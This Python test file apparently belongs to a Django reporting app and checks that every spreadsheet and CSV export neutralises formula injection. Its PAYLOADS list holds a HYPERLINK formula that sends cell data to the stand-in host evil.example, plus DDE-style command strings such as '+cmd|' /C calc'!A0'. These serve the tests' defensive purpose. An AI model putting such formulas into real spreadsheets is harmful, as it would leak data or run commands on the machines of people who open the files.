"""Spreadsheets that cannot run: every XLSX we hand out has no formula cell, and every CSV
neutralises a leading = + - @ tab or CR (OWASP).  The issue's probe: a reporter's note
`=HYPERLINK("http://…?"&A1,"x")` came back as a live formula in the Excel template, and
`baocao export values --format csv` wrote = + @ unchanged."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from baocao.lib import spreadsheet
from tests.conftest import fill, sent

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd",
            "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "'=already quoted"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element of every worksheet of an XLSX."""
    archive = zipfile.ZipFile(io.BytesIO(xlsx))
    found = []
    for name in archive.namelist():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            found += re.findall(rb"<f[ >].*?</f>", archive.read(name))
    return found


def all_text(xlsx: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(xlsx))
    return "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))


def assert_csv_is_safe(text: str):
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in DANGEROUS:
                assert spreadsheet.NUMBER.fullmatch(cell), cell


# --- the helper ------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS)
def test_a_dangerous_text_is_neutralised(text):
    safe = spreadsheet.neutralise(text)
    assert safe.startswith("'") and safe[1:] == text
    assert spreadsheet.restore(safe) == text


@pytest.mark.parametrize("value", ["-12.5", "+3", "-0,5", "1e-3", 42, -7.5, None, "", "Hà Nội"])
def test_numbers_and_plain_text_pass_unchanged(value):
    assert spreadsheet.neutralise(value) == value


@given(st.text(max_size=30))
def test_neutralise_then_restore_gives_back_the_text(text):
    assert spreadsheet.restore(spreadsheet.neutralise(text)) == text


def test_save_workbook_leaves_no_formula():
    wb = spreadsheet.new_workbook()
    wb.active.append(PAYLOADS)
    data = spreadsheet.save_workbook(wb)
    assert formula_cells(data) == []
    assert "HYPERLINK" in all_text(data)


def test_every_export_goes_through_the_helper():
    """No module writes a workbook or a CSV but through baocao.lib.spreadsheet."""
    root = Path(spreadsheet.__file__).resolve().parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheet.py" or "migrations" in path.parts:
            continue
        source = path.read_text()
        for pattern in (r"\bWorkbook\(", r"csv\.writer\(", r"csv\.DictWriter\(", r"xlsxwriter"):
            if re.search(pattern, source):
                offenders.append(f"{path.relative_to(root)}: {pattern}")
    assert offenders == []


# --- every export ------------------------------------------------------------------------------

def test_the_excel_template_keeps_a_note_as_text(collection, users):
    from baocao.collection import excel, submissions
    from baocao.collection.models import DataValue

    sub = collection["submission"]
    fill(sub, users["reporter"], YT01="1000")
    DataValue.objects.filter(unit=sub.unit, indicator__code="YT01").update(text=PAYLOADS[0])
    submissions.save_text(sub, collection["results"], f"<p>{PAYLOADS[3]}</p>", users["reporter"])
    data = excel.build_template(sub)
    assert formula_cells(data) == []
    assert "HYPERLINK" in all_text(data) and "@SUM" in all_text(data)


def test_the_template_downloaded_from_the_page_has_no_formula(client_for, collection, users):
    from baocao.collection.models import DataValue

    fill(collection["submission"], users["reporter"], YT01="1000")
    DataValue.objects.filter(indicator__code="YT01").update(text=PAYLOADS[0])
    response = client_for("head").get(
        f"/rounds/submissions/{collection['submission'].pk}/template.xlsx")
    assert response.status_code == 200 and formula_cells(response.content) == []


def test_the_round_workbook_keeps_a_reason_as_text(client_for, collection):
    collection["round"].submissions.update(extension_reason=PAYLOADS[0])
    response = client_for("compiler").get(f"/rounds/{collection['round'].pk}/xlsx/")
    assert response.status_code == 200
    assert formula_cells(response.content) == [] and "HYPERLINK" in all_text(response.content)


def test_the_values_csv_neutralises_and_reads_back_unchanged(collection, users):
    from baocao.collection import values_io
    from baocao.collection.models import DataValue

    fill(collection["submission"], users["reporter"], YT01="1000")
    DataValue.objects.filter(indicator__code="YT01").update(text=PAYLOADS[0],
                                                            comment=PAYLOADS[1])
    sent(collection["submission"])  # only sent reports are exported
    text = values_io.export_values("2026-10", fmt="csv")
    assert_csv_is_safe(text)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells and "1000" in cells
    result = values_io.import_values(io.StringIO(text), filename="values.csv")
    assert result.ok, result.errors
    value = DataValue.objects.get(indicator__code="YT01", column="actual")
    assert value.text == PAYLOADS[0] and value.comment == PAYLOADS[1]


def test_the_export_command_writes_the_same(collection, users, capsys):
    from django.core.management import call_command

    from baocao.collection.models import DataValue

    fill(collection["submission"], users["reporter"], YT01="1000")
    DataValue.objects.filter(indicator__code="YT01").update(text=PAYLOADS[2])
    sent(collection["submission"])  # only sent reports are exported
    call_command("export", "values", "--period", "2026-10", "--format", "csv")
    out = capsys.readouterr().out
    assert_csv_is_safe(out)
    assert "'-2+3+cmd" in out


def test_the_consolidation_csv_and_xlsx_are_safe(tmp_path):
    from baocao.consolidation.management.commands import consolidate

    command = consolidate.Command()
    row = {c: None for c in consolidate.COLUMNS}
    row.update(indicator="=1+1", name=PAYLOADS[0], missing_units=["@A1", "-B"], actual=-3,
               missing_estimate_units=["=C1"])
    row = {k: v for k, v in row.items() if k in consolidate.COLUMNS}
    assert_csv_is_safe(command.as_csv([row]))
    path = tmp_path / "c.xlsx"
    command.write_xlsx([row], str(path))
    assert formula_cells(path.read_bytes()) == []


def test_the_documents_xlsx_keeps_a_table_cell_as_text(monthly_draft, users):
    from baocao.documents import render, structure

    version = monthly_draft.latest_version()
    cell = PAYLOADS[0].replace("&", "&amp;").replace('"', "&quot;")
    table = (f"<table><tr><th>Chỉ tiêu</th><th>Giá trị</th></tr>"
             f"<tr><td>{cell}</td><td>12</td></tr></table>")
    version.content = [{**s, "html": table} if s["kind"] == "appendix" else s
                       for s in version.content]
    assert any(s["kind"] == "appendix" for s in version.content)
    data = render.render(structure.of_draft(monthly_draft, version), "xlsx")
    assert formula_cells(data) == [] and "HYPERLINK" in all_text(data)
